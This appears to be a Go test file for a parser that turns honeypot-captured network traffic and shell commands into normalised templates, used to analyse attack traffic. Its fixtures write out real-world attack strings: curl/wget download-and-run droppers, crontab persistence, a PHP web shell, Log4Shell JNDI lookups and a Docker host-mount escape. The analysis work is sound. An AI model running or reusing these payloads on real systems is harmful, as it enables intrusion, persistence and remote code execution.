package skeleton

import (
	"bytes"
	"cmp"
	"strings"
	"testing"

	"terroir"
)

func parsed(proto, text, cargo string) Skeleton {
	return Parse(&terroir.Template{AppProto: proto, Text: []byte(text), Cargo: []byte(cargo)})
}

func TestSkeletonsOfProtocols(t *testing.T) {
	for _, c := range []struct{ name, proto, text, want string }{
		{"RESP", "redis", "*3\r\n$3\r\nSET\r\n$2\r\nx4\r\n$60\r\n\n\n*/1 * * * * root curl -fsSL http://203.0.113.51/r4.sh|sh\n\n\r\n",
			"SET <V> */<N> * * * * root curl -fsSL <URL>|sh"},
		{"RESP whose lengths masking has changed", "redis", "*2\r\n$4\r\nAUTH\r\n$12\r\n<HONEYPOT IP>\r\n", "AUTH <SELF>"},
		{"RESP that is cut", "redis", "*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$4", "CONFIG GET"},
		{"inline", "redis", "config set dbfilename \"backup.db\"\r\nslaveof 192.0.2.1 6379\r\n", "CONFIG SET dbfilename <V>\nSLAVEOF <IP> <N>"},
		{"HTTP", "http", "GET /v1.24/a.php?id=7&x=y HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/7\r\nAccept: */*\r\n\r\n",
			"GET /v<N>.<N>/a.php?id=<N>&x=<V> HTTP/1.1\nUser-Agent: <V>\nAccept: <V>\nend"},
		{"JSON", "http", "POST /containers/create HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"Image\":\"alpine\",\"Cmd\":[\"sh\",\"-c\",\"id; id\"],\"N\":1}",
			"POST /containers/create HTTP/1.1\nContent-Type: application/json\nend\n{Image:<V>,Cmd:[<V>,<V>,<S>],N:<N>}"},
		{"form", "http", "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=1&b=two", "POST / HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\nend\na=<N>&b=<V>"},
		{"multipart", "http", "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n--x1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n[1,\"b\"]\r\n--x1--\r\n",
			"POST / HTTP/1.1\nContent-Type: multipart/form-data\nend\nContent-Disposition: form-data; name=\"a\"\n[<N>,<V>]"},
		{"path written with percent", "http", "GET /nice%20ports%2C/%54ri%6Eity.txt%2ebak?a=%26 HTTP/1.0\r\n\r\n", "GET /nice ports,/Trinity.txt.bak?a=<V> HTTP/1.0\nend"},
		{"lookup within a URL", "http", "GET / HTTP/1.1\r\nX: ${jndi:ldap://${hostName}.example.net/a}\r\n\r\n", "GET / HTTP/1.1\nX: ${jndi:<URL>}\nend"},
		{"lookup in a header", "http", "GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.1:1389/a}\r\n\r\n", "GET / HTTP/1.1\nX: ${jndi:<URL>}\nend"},
		{"RTSP", "rtsp", "OPTIONS rtsp://192.0.2.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", "OPTIONS rtsp://<V>/ RTSP/1.0\nCSeq: <N>\nend"},
		{"absolute form", "http-proxy", "GET http://<HONEYPOT IP>:<PORT>/a?b=c HTTP/1.1\r\n\r\n", "GET http://<SELF>/a?b=<V> HTTP/1.1\nend"},
		{"RDP cookie", "rdp", "\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
			`X.224 connection request Cookie: mstshash=<V>` + "\n" + `\x01\x00\x08\x00\x03\x00\x00\x00`},
		{"PostgreSQL", "postgresql", "\x00\x00\x00\x29\x00\x03\x00\x00user\x00bob\x00database\x00postgres\x00\x00", `startup \x00\x03\x00\x00` + "\nuser <V>\ndatabase <V>"},
		{"PostgreSQL, TLS", "postgresql", "\x00\x00\x00\x08\x04\xd2\x16\x2f", "SSLRequest"},
		{"SSH", "ssh", "SSH-2.0-libssh2_1.4.3\r\n", "SSH-2.0-<V>"},
		{"MQTT", "mqtt", "\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04ab01", `CONNECT MQTT \x04\x02<N><V>`},
		{"AMQP", "amqp", "AMQP\x00\x00\x09\x01", `AMQP\x00\x00\x09\x01`},
		{"LDAP", "ldap", "0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00", `bind \x07\x02\x01\x03\x04\x00\x80\x00`},
		{"DNS", "dns", "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07version\x04bind\x00\x00\x10\x00\x03", `query \x01\x00 version.bind type \x00\x10\x00\x03`},
		{"TLS", "tls", "TLS ClientHello 0123 t13d1516h2_8daaf6152771_02713d6af862 SNI=a.example ALPN=h2", "t13d1516h2 h2 <HEX><HEX><V>"},
		{"SOCKS", "socks", "\x04\x01\x00\x50\xcb\x00\x71\x01\x00", `SOCKS4 command\x01<N><IP><V>`},
		{"SMB", "smb", "\x00\x00\x00\x2f\xffSMB\x72\x00\x00\x00\x00\x18\x53\xc8\x00\x00\x02NT LM 0.12\x00", `SMB\xff command \x72` + "\nNT LM <N>.<N>"},
		{"telnet", "telnet", "\xff\xfd\x01\xff\xfb\x18root\r\n", "DO <N>\nWILL <N>\nroot"},
		{"memcached on UDP", "memcached", "\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n", "<N>stats"},
		{"text", "", "MGLNDD_<HONEYPOT IP>_6379\n", "MGLNDD_<SELF>_<N>"},
		{"tokens", "", "a 192.0.2.1:80 2001:db8::1 [::1] 0xdead <UUID> aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQK12== \\x41\\x42\\x43 https://x.example/a?b=c", "a <IP>:<N> <IP> <IP> <HEX> <UUID> <B64> <HEX> <URL>"},
		{"bytes", "", "\x01\x02abcdef\x00\x00\x00\x00\x00", `\x01\x02abcdef\x00*`},
		{"one byte", "", "\x00\x00\x00", "<BIN> one byte"},
		{"blank", "", "\r\n\r\n", "<S>"},
	} {
		s := parsed(c.proto, c.text, "")
		if got := Show(s.Vehicle.Text); got != c.want {
			t.Errorf("%s:\n%q, want\n%q", c.name, got, c.want)
		}
		if s.Vehicle.Specific != (c.proto != "") {
			t.Errorf("%s: specific %v", c.name, s.Vehicle.Specific)
		}
	}
}

func TestSkeletonsOfCommands(t *testing.T) {
	for in, want := range map[string]string{
		"id": "id",
		"cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; chmod 777 a.sh && ./a.sh": "cd <V>\ncd <V>\nwget <URL>\nchmod <N> <V>\n<V>",
		"(busybox wget -O x http://192.0.2.1/x||curl -s -o x http://192.0.2.1/x )&":    "busybox wget -O <V> <URL>\ncurl -s -o <V> <URL>",
		"echo $((41*271))": "echo <N>",
		"A=1 /usr/bin/curl --data=\"x y\" 192.0.2.1 | sh":          "A=<N> curl --data=<S> <IP>\n| sh",
		"cat .git/config 2>/dev/null":                              "cat <V>",
		"echo a b c 'd e'":                                         "echo <V> <S>",
		"powershell -c \"40168*44475\"":                            "powershell -c <S>",
		"if ! type curl; then x; fi":                               "if ! type <V>\nthen x\nfi",
		"if [ -f x ]; then sudo rm -f x; fi":                       "if [ -f <V>\nthen sudo rm -f <V>\nfi",
		`echo "* * * * * curl http://192.0.2.1/a|sh">/etc/crontab`: "echo * * * * * curl <URL>|sh>/etc/crontab",
		"somebody/miner:latest":                                    "somebody/miner:latest",
		"./miner":                                                  "<V>",
		"`whoami`$(id)":                                            "whoami\nid",
		"<?php system($_GET['c']);":                                "<?php system($_GET['c']);",
		"echo aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQK12|base64 -d|sh": "echo <B64>\n| base64 -d\n| sh",
	} {
		if got := Show(parsed("", "x", in).Cargo.Text); got != want {
			t.Errorf("%q:\n%q, want\n%q", in, got, want)
		}
	}
	if a, b := parsed("", "x", "cat a|tail -n +3 | head -n 1").Cargo, parsed("", "x", "cat /b 2>&1").Cargo; a.Compared() != b.Compared() || a.Text == b.Text {
		t.Errorf("filters of output are compared: %q %q", a.Compared(), b.Compared())
	}
	if a, b := parsed("", "x", "cd /tmp||cd /;curl -fsSL http://192.0.2.1 -o x").Cargo, parsed("", "x", "cd /; curl 192.0.2.1").Cargo; Show(a.Compared()) != "cd <V>\ncurl <URL> <V>" ||
		Show(b.Compared()) != "" && Show(b.Compared()) != "cd <V>\ncurl <IP>" {
		t.Errorf("options and repetitions are compared: %q %q", Show(a.Compared()), Show(b.Compared()))
	}
}

func TestUserAgentAndOrderOfHeadersDoNotTellRequestsApart(t *testing.T) {
	a := parsed("http", "GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/7.1\r\nAccept: */*\r\n\r\n", "")
	b := parsed("http", "GET /x HTTP/1.1\r\nAccept: text/html\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\nHost: b\r\n\r\n", "")
	if a.Vehicle.Compared() != b.Vehicle.Compared() {
		t.Errorf("%q is not %q", a.Vehicle.Compared(), b.Vehicle.Compared())
	}
}

func TestNames(t *testing.T) {
	for _, c := range []struct{ proto, text, cargo, vehicle, command string }{
		{"http", "GET /x?id=1 HTTP/1.1\r\nUser-Agent: a\r\nX: ${jndi:dns://a}\r\n\r\n", "", "GET /x?id=<N>\nX: ${jndi:<URL>}", ""},
		{"docker", "POST /containers/create HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"Image\":\"a/b\"}", "a/b", "POST /containers/create", ""},
		{"http", "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=1&c=id", "id", "POST /\na=<N>&c=<CARGO>", ""},
		{"", "x", "id; " + strings.Repeat("apt-get install -y curl; ", 9) + "curl -o /tmp/a http://192.0.2.1/a; chmod +x /tmp/a; /tmp/a", "x", "id\n…\ncurl -o <V> <URL>\n…"},
	} {
		s := parsed(c.proto, c.text, c.cargo)
		if got := Show(cmp.Or(s.Vehicle.Name, s.Vehicle.Text)); got != c.vehicle {
			t.Errorf("%q: %q, want %q", c.text, got, c.vehicle)
		}
		if got := Show(s.Cargo.Name); got != c.command {
			t.Errorf("%q: %q, want %q", c.cargo, got, c.command)
		}
	}
}

func TestTheCargoIsFoundInItsVehicle(t *testing.T) {
	for _, c := range []struct{ text, cargo, want string }{
		{"exec('curl \"a\" b')", `curl "a" b`, "exec('<CARGO>')"},
		{`{"c":"curl \"a\"\nid"}`, "curl \"a\"\nid", `{"c":"<CARGO>"}`},
		{"c=curl+%22a%22&x", `curl "a"`, "c=<CARGO>&x"},
		{`x\u003bid\x3bid`, ";id;id", "x<CARGO>"},
		{"child id video", "id", "child <CARGO> video"},
		{"base64", "rm -rf /", "base<N>"},
		{"id", "id", "<CARGO>"},
	} {
		if got := Show(parsed("", c.text, c.cargo).Vehicle.Text); got != c.want {
			t.Errorf("%q in %q: %q, want %q", c.cargo, c.text, got, c.want)
		}
	}
}

func TestSlotsKeepTheirValues(t *testing.T) {
	s := parsed("redis", "SLAVEOF 192.0.2.1 6380\r\n", "wget http://192.0.2.1/a b c")
	want := []Filled{{Address, "192.0.2.1"}, {Number, "6380"}}
	if len(s.Vehicle.Slots) != 2 || s.Vehicle.Slots[0] != want[0] || s.Vehicle.Slots[1] != want[1] {
		t.Errorf("got %v, want %v", s.Vehicle.Slots, want)
	}
	if len(s.Cargo.Slots) != 2 || s.Cargo.Slots[1] != (Filled{Value, "b c"}) {
		t.Errorf("got %v", s.Cargo.Slots)
	}
}

func TestWhatIsNoise(t *testing.T) {
	random := make([]byte, 200)
	x := uint32(1)
	for i := range random {
		x = x*1664525 + 1013904223
		random[i] = byte(x >> 24)
	}
	for name, c := range map[string]struct {
		proto, text string
		want        bool
	}{
		"random": {"", string(random), true}, "text": {"", "the quick brown fox jumps over the lazy dog", false}, "zeros": {"", strings.Repeat("\x00", 100), false},
		"short": {"", string(random[:8]), false}, "of a protocol": {"ssh", "SSH-2.0-x\r\n" + string(random), false},
	} {
		if got := parsed(c.proto, c.text, "").Vehicle.Noise; got != c.want {
			t.Errorf("%s: noise %v", name, got)
		}
	}
}

// protocols are all that have a parser, and one that has none.
var protocols = []string{"", "http", "redis", "memcached", "tls", "rdp", "postgresql", "ssh", "mqtt", "amqp", "ldap", "dns", "socks", "smb", "telnet"}

// FuzzParse: whatever the bytes, the output is bounded, its slots and their values fit, and it has no control characters.
func FuzzParse(f *testing.F) {
	for i, s := range []string{"GET / HTTP/1.1\r\nA: b\r\n\r\n{\"a\":[1,\"<CARGO>\"]}", "*2\r\n$4\r\nAUTH\r\n$999999999999\r\n", "\x10\x10\x00\xffMQTT", "\x16\x03\x01\x00\x05\x01",
		"0\xff\x02\x7f", "\x00\x00\x00\x08\x04\xd2\x16\x2f", "\xff\xfa\x18", "--x\r\n\r\n--x--", "\\x41\\x42 %2f ::1 <HEX>", "\x05\x01", "\xff\xfb", "((((((((`$((\"'"} {
		f.Add(uint8(i), []byte(s), []byte("sh -c 'a|b' && $((1))"))
	}
	f.Fuzz(func(t *testing.T, proto uint8, text, cargo []byte) {
		template := &terroir.Template{AppProto: protocols[int(proto)%len(protocols)], Text: text, Cargo: cargo}
		before := bytes.Clone(text)
		s := Parse(template)
		for _, p := range []Part{s.Vehicle, s.Cargo} {
			if len(p.Text) > MaxText || len(p.Like) > MaxText+maxHeaders {
				t.Fatalf("%d bytes, %d are compared", len(p.Text), len(p.Like))
			}
			n := 0
			for _, c := range []byte(p.Text) {
				switch {
				case c == '\n':
				case Slot(c) < slots:
					n++
				case c < ' ' || c == 0x7f:
					t.Fatalf("%q has a control character", p.Text)
				}
			}
			if n > len(p.Slots) {
				t.Fatalf("%q has %d slots, %d have values", p.Text, n, len(p.Slots))
			}
			for _, v := range p.Slots {
				if len(v.Value) > maxValue {
					t.Fatalf("a value of %d bytes", len(v.Value))
				}
			}
		}
		if again := Parse(template); again.Vehicle.Text != s.Vehicle.Text || again.Cargo.Text != s.Cargo.Text || !bytes.Equal(text, before) {
			t.Fatal("not the same again")
		}
	})
}

func BenchmarkParse(b *testing.B) {
	t := &terroir.Template{AppProto: "http", Text: []byte("POST /v1.24/containers/create HTTP/1.1\r\nHost: <HONEYPOT IP>\r\nUser-Agent: Docker-Client/1.13.1 (linux)\r\nContent-Type: application/json\r\n\r\n" +
		`{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl -s http://203.0.113.7/d7.sh | sh"],"HostConfig":{"Binds":["/:/mnt"]}}`), Cargo: []byte("curl -s http://203.0.113.7/d7.sh | sh")}
	b.ReportAllocs()
	for b.Loop() {
		Parse(t)
	}
}
